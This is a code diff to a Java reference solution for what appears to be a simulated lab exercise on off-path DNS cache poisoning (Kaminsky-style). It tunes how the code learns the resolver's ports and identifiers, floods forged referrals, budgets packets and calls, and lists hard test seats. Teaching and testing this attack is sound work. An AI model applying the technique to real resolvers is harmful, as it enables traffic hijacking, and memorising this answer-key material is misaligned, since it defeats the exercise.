@@ -19,16 +19,20 @@ import org.quintain.solutions.net.dnskaminsky.Messages.Seen;
  * Cache poisoning from off path (D. Kaminsky, Black Hat USA 2008; RFC 5452): learns port and identifiers from questions
  * about a zone of its own (A. Klein 2007), measures the race, and then has one name after the other looked up that does not
  * exist, each with a flood of forged referrals behind it, until the resolver comes and asks the learner.
+ *
+ * <p>Cost, over the practice seats 0 to 199: 4,010 packets (worst 20,765), 146 queries (worst 409), 9.3 seconds of virtual time
+ * (worst 26.7), most of them spent waiting for the user. A race is won with 256 / 4,096 or more; the 350 or fewer that
+ * 90,000 packets are enough for all fail on one seat in 10^9.
  */
 public final class DnsKaminskyAttack implements Reference<Challenge, Answer> {
     private static final int SAMPLES = 12;
     private static final int SLACK_MICROS = 20_000;
     private static final int LINK_OVERHEAD_BYTES = 24;
     private static final int LINK_BITS_PER_MICRO = 10;
-    /** Packets that races may use, of the 150,000 that the card allows. */
-    private static final int MOST_PACKETS = 140_000;
-    /** A race has two lines of the script, which may have 1,500, and about four calls, of which there are 4,000. */
-    private static final int MOST_RACES = 700;
+    /** Packets that races may use, of the 50,000 that the card allows. */
+    private static final int MOST_PACKETS = 45_000;
+    /** Calls that races may use, of 4,000; a race that is lost takes four, and one for each answer to a further question. */
+    private static final int MOST_CALLS = 3_500;
 
     @Override
     public Lab<Challenge, Answer> lab() {
@@ -52,13 +56,18 @@ public final class DnsKaminskyAttack implements Reference<Challenge, Answer> {
 
     /** Has names of the own zone looked up, and answers: each question of the resolver's shows its port and identifier. */
     static List<Seen> survey(Recording recording, Messages messages, Challenge challenge) {
-        for (int i = 0; i < SAMPLES; i++) {
-            recording.send(messages.question(i, "s" + i + "." + challenge.ownZone()));
+        List<Seen> all = new ArrayList<>();
+        // One question first: while routers ask for MACs, only a few packets wait.
+        for (int round = 0; round < 2; round++) {
+            for (int i = 0; i < (round == 0 ? 1 : SAMPLES - 1); i++) {
+                recording.send(messages.question(i, "s" + round + i + "." + challenge.ownZone()));
+            }
+            List<Seen> questions = questions(recording, messages, 60_000);
+            questions.forEach(question -> recording.send(messages.answer(question)));
+            recording.listen(60_000);
+            all.addAll(questions);
         }
-        List<Seen> questions = questions(recording, messages, 60_000);
-        questions.forEach(question -> recording.send(messages.answer(question)));
-        recording.listen(60_000);
-        return questions;
+        return all;
     }
 
     private static List<Seen> questions(Recording recording, Messages messages, long micros) {
@@ -96,7 +105,7 @@ public final class DnsKaminskyAttack implements Reference<Challenge, Answer> {
         byte[] sample = messages.referral("r000." + challenge.zone(), port);
         int copies = (int)
                 Math.max(1, Math.min(Math.min(DnsKaminskyLab.MAX_COPIES, challenge.idCount()), rest / micros(sample)));
-        int races = Math.min(MOST_RACES, MOST_PACKETS / (copies + outstanding));
+        int races = Math.min(MOST_CALLS / (4 + outstanding), MOST_PACKETS / (copies + outstanding));
         for (int race = 0; race < races; race++) {
             String name = "r" + race + "." + challenge.zone();
             byte[] question = messages.question(race, name);
@@ -169,7 +178,10 @@ public final class DnsKaminskyAttack implements Reference<Challenge, Answer> {
 
     @Override
     public List<HardSeat> hardSeats() {
-        return List.of();
+        return List.of(
+                seat(9, "the identifiers are 16 apart, and the first race is won: nobody may flood on"),
+                seat(12, "the identifiers run over the end, behind 65,535 comes 0, and the first race is won"),
+                seat(552, "the identifiers run over the end: the least that was seen is not the first of the window"));
     }
 
     private static HardSeat seat(int number, String why) {
